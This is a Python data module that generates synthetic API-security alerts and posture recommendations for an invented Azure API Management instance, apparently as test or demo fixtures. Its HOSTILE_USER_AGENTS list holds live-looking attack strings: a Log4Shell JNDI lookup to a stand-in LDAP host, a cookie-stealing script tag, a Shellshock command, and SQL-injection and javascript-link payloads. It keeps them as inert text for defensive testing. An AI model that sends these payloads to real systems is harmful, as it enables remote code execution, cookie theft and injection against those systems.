"""What synthetic findings are made of: alert and recommendation types, APIs, clients, words.

Every value is invented: one made-up API Management instance, documentation address ranges,
user agents (some hostile, as attackers send them: they must stay text wherever shown).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Kind:
    """One type of finding, how often it comes, and how it reads."""

    type: str
    title: str
    description: str
    weight: float
    severities: tuple[str, ...]
    kind: str = "alert"
    with_ip: float = 0.95
    """The share of these findings that name a client IP."""
    posture: bool = False
    """About an endpoint's configuration: drawn from POSTURE_APIS, not from APIS."""


def _alert(type_: str, title: str, description: str, weight: float, *severities: str) -> Kind:
    return Kind(type_, title, description, weight, severities)


def _posture(type_: str, title: str, description: str, weight: float, severity: str) -> Kind:
    return Kind(type_, title, description, weight, (severity,), "recommendation", 0.0, True)


CATALOGUE = (
    _alert(
        "API_AccessFromSuspiciousIP",
        "Access from a suspicious IP address to a sensitive API endpoint",
        "Traffic to {endpoint} came from an IP address that threat intelligence links to "
        "malicious activity.",
        13,
        "high",
    ),
    _alert(
        "API_AccessFromTorExitNode",
        "Access from a Tor exit node to an API endpoint",
        "The API endpoint {endpoint} was called from a known Tor exit node.",
        8,
        "medium",
    ),
    _alert(
        "API_AccessFromSuspiciousUserAgent",
        "Suspicious user agent detected calling an API endpoint",
        "A request to {endpoint} carried a user agent associated with exploitation attempts.",
        6,
        "medium",
        "high",
    ),
    _alert(
        "API_SpikeInAPITraffic",
        "Suspicious spike in API traffic to an API endpoint from a single IP address",
        "Traffic from one client to {endpoint} rose far above its 30-day baseline.",
        14,
        "medium",
        "low",
    ),
    _alert(
        "API_SpikeInPayload",
        "Unusually large response payload between a single IP address and an API endpoint",
        "A single client received an unusually large response from {endpoint}.",
        5,
        "medium",
    ),
    _alert(
        "API_SpikeInLatency",
        "Suspicious spike in latency between a single IP address and an API endpoint",
        "Requests from one client made {endpoint} answer far slower than usual.",
        4,
        "low",
    ),
    _alert(
        "API_ParameterEnumeration",
        "Parameter value enumeration on an API endpoint from a single IP address",
        "One client tried thousands of distinct values of a parameter of {endpoint}.",
        8,
        "medium",
    ),
    _alert(
        "API_SprayInRequests",
        "Suspicious API spray: one IP address called unusually many distinct endpoints",
        "One client called hundreds of distinct endpoints within 20 minutes.",
        6,
        "medium",
    ),
    Kind(
        "API_PopulationSpikeInAPITraffic",
        "Suspicious population-level spike in API traffic to an API endpoint",
        "Traffic to {endpoint} from the whole population of clients rose far above baseline.",
        3,
        ("medium",),
        with_ip=0.0,
    ),
    Kind(
        "API_DistributedParameterEnumeration",
        "Distributed parameter value enumeration on an API endpoint",
        "Many IP addresses together enumerated the values of a parameter of {endpoint}.",
        2,
        ("medium",),
        with_ip=0.0,
    ),
    Kind(
        "API_UnseenParamType",
        "Unseen parameter type in an API request",
        "A request to {endpoint} carried a parameter value of a type never seen before.",
        3,
        ("low",),
        with_ip=0.5,
    ),
    Kind(
        "API_UnseenParam",
        "Unseen parameter in an API request",
        "A request to {endpoint} carried a parameter never seen before.",
        3,
        ("low",),
        with_ip=0.5,
    ),
    # From a detector other than Defender: the default pack has no playbook for it.
    Kind(
        "credential-stuffing",
        "Credential stuffing against {endpoint}",
        "Hundreds of failed sign-ins from one client within minutes.",
        5,
        ("high",),
        with_ip=1.0,
    ),
    _posture(
        "Recommendation_UnauthenticatedEndpoint",
        "API endpoints in Azure API Management should be authenticated",
        "The endpoint accepts requests without a subscription key, JWT validation or client "
        "certificate.",
        1,
        "high",
    ),
    _posture(
        "Recommendation_UnusedEndpoint",
        "API endpoints that are unused should be disabled and removed from the Azure API "
        "Management service",
        "No traffic was seen on this endpoint in the last 30 days.",
        0.6,
        "low",
    ),
    _posture(
        "Recommendation_SubscriptionScopedToAllApis",
        "API Management subscriptions should not be scoped to all APIs",
        "A subscription grants access to every API of the instance.",
        0.4,
        "medium",
    ),
    _posture(
        "Recommendation_MinimumApiVersion",
        "API Management minimum API version should be set to 2019-12-01 or higher",
        "The service accepts management calls with an old API version.",
        0.4,
        "low",
    ),
)

SERVICE = "apim-contoso-prod"
APIM = (
    "/subscriptions/6f1c2b9e-0a4d-4c1e-9d43-2b8f7e1a5c10/resourceGroups/rg-payments/providers/"
    f"Microsoft.ApiManagement/service/{SERVICE}"
)
APIS = (
    ("orders-api", "getOrder", "GET /orders/{orderId}"),
    ("payments-api", "createPayment", "POST /payments"),
    ("users-api", "listUsers", "GET /users"),
    ("accounts-api", "getAccount", "GET /accounts/{id}"),
    ("search-api", "search", "GET /search"),
    ("customers-api", "exportCustomers", "GET /customers/export"),
    ("legacy-api", "listInvoices", "GET /legacy/invoices"),
    ("legacy-api", "deleteInvoice", "DELETE /legacy/invoices/{id}"),
    ("auth-api", "login", "POST /login"),
    ("catalog-api", "listItems", "GET /catalog/items"),
    ("shipping-api", "trackParcel", "GET /parcels/{id}"),
    ("loyalty-api", "redeemPoints", "POST /loyalty/redeem"),
)
# Old operations that recommendations are about (unused, unauthenticated...).
POSTURE_APIS = (
    ("legacy-api", "listInvoices", "GET /legacy/invoices"),
    ("legacy-api", "deleteInvoice", "DELETE /legacy/invoices/{id}"),
    ("legacy-api", "exportReports", "GET /legacy/reports/export"),
    ("orders-api", "getOrderV1", "GET /v1/orders/{orderId}"),
    ("users-api", "listUsersBeta", "GET /beta/users"),
    ("catalog-api", "importItems", "POST /catalog/import"),
    ("loyalty-api", "redeemPointsV1", "POST /v1/loyalty/redeem"),
    ("shipping-api", "legacyTracking", "GET /tracking/{id}"),
)
USER_AGENTS = (
    "python-requests/2.31.0",
    "curl/8.5.0",
    "okhttp/4.12.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
)
HOSTILE_USER_AGENTS = (
    "${jndi:ldap://203.0.113.66:1389/a}",
    "<script>alert(document.cookie)</script>",
    "() { :; }; /bin/bash -c 'id'",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "' OR '1'='1' -- **bold** [x](javascript:alert(1))",
)

REJECTIONS = (
    "the quarterly export still calls it",
    "the owner retires it in the next release instead",
    "false positive: the partner's batch job",
)
APPROVAL_NOTES = ("", "checked with the API owner", "no callers in 90 days of gateway logs")
UNDO_REASONS = (
    "false positive: the partner's batch job",
    "customer escalation, watching by hand",
    "our own load test",
    "a shared NAT address of a customer",
)
TASK_NOTES = (
    "done",
    "fixed in release 2026.11.3",
    "not applicable: internal only, recorded in the risk register",
    "policy updated and checked in the gateway logs",
)
TRANSIENT = "timed out after 11s"
"""The error of an attempt that did not answer in time."""
